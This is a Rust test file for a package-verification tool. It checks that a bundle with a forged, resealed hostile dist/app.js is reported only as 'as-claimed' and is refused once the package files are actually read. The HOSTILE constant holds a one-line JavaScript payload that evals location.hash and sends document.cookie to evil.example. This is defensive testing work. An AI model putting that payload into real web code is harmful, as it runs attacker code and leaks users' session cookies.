//! A hostile file under clean facts, with the whole chain sealed again: it is valid, and everything that says so also says
//! that no file was read. `svc app verify --package` reads the file and refuses the bundle.

use std::fs;

use serde_json::{Value, json};
use svc_core::{attacks, words::kind};
use svc_json::{canonical, digest::Digest};

use crate::{
    bundle::{self, Bundle, Package},
    commands, folder,
    svc::{Run, app, svc},
};

const HOSTILE: &[u8] = b"eval(atob(location.hash));fetch(`https://evil.example/?${document.cookie}`);//";
const FILE: &str = "dist/app.js";

/// A package with a hostile script, and the bundle that denies it.
fn forged() -> (Package, Bundle) {
    let package = Package::new("weather-board");
    let honest = fs::read(package.root().join(FILE)).unwrap();
    let mut hostile = HOSTILE.to_vec();
    hostile.resize(honest.len(), b' ');
    package.write(FILE, &hostile);
    let mut submission = bundle::json(&bundle::weather_board()[kind::SUBMISSION.file]);
    let files = submission["packageArtifact"]["files"].as_array_mut().unwrap();
    let row = files.iter_mut().find(|row| row["path"] == FILE).unwrap();
    row["digest"] = json!(Digest::of(&hostile).to_string());
    attacks::reseal(&mut submission);
    let place = folder::empty();
    fs::write(place.path().join(kind::SUBMISSION.file), canonical::to_pretty(&submission)).unwrap();
    for command in commands::thirteen() {
        if let Some(spec) = command.reads {
            app([command.name]).args([spec.file]).in_folder(place.path()).run().exits(0);
        }
    }
    let files = kind::ALL.iter().map(|spec| (spec.file, fs::read(place.path().join(spec.file)).unwrap()));
    (package, Bundle::from_files(&files.collect()))
}

fn value(run: &Run) -> Value {
    serde_json::from_slice(&run.stdout).unwrap()
}

#[test]
fn a_hostile_file_under_clean_facts_is_valid_as_claimed_and_refused_when_read() {
    let (package, bundle) = forged();
    let submission = bundle.path(&kind::SUBMISSION);
    let said = ["as-claimed", "package files"];
    bundle.verify(&[]).exits(0).prints(&["Valid     yes", "Stage     Collection entry"]).prints(&said);
    app(["inspect"]).args([&submission]).run().exits(0).prints(&said);
    app(["plan"]).args([&submission]).run().exits(0).prints(&said);
    svc(["lifecycle"]).args([bundle.folder()]).run().exits(0).prints(&said);
    app(["diff"]).args([&submission, &submission]).run().exits(0).prints(&said);
    for spec in kind::ALL {
        app(["validate"]).args([bundle.path(spec)]).run().exits(0).prints(&["package files"]);
    }
    let verified = value(&bundle.verify(&["--format", "json"]));
    assert_eq!(
        (&verified["scope"]["reviewed"], &verified["packages"][0]["reviewed"]),
        (&json!("as-claimed"), &json!("as-claimed"))
    );
    let inspected = value(app(["inspect", "--format", "json"]).args([&submission]).run().exits(0));
    assert_eq!(inspected["packages"][0]["reviewed"], "as-claimed");
    let standing = value(svc(["lifecycle", "--format", "json"]).args([bundle.folder()]).run().exits(0));
    assert_eq!(standing["resolutions"][0]["reviewed"], "as-claimed");

    let page = app(["report", "--markdown", "--out", "-"]).args([bundle.folder()]).run();
    page.exits(0).prints(&["Reviewed as-claimed", "evidenced (digests recomputed, not from package files)"]);

    let root = package.root();
    let read = bundle.verify(&["--package", root.to_str().unwrap()]);
    assert!(!read.out().contains("Valid     yes") && !read.out().contains("Stage     "), "{}", read.out());
    read.exits(4).reports(&["SVC-B010", "the rules give another report for the package on disk"]);
}

#[test]
fn files_that_were_hashed_and_read_here_are_said_to_be() {
    let package = Package::new("weather-board");
    let root = package.root();
    let said = ["Reviewed  read: ", "evidenced (digests recomputed from the package files)"];
    Bundle::new().verify(&["--package", root.to_str().unwrap()]).exits(0).prints(&said);
    let (packed, _) = package.pack();
    packed.exits(0).prints(&said);
    app(["validate"]).args([package.manifest()]).run().exits(0).prints(&["Reviewed  read: "]);
}
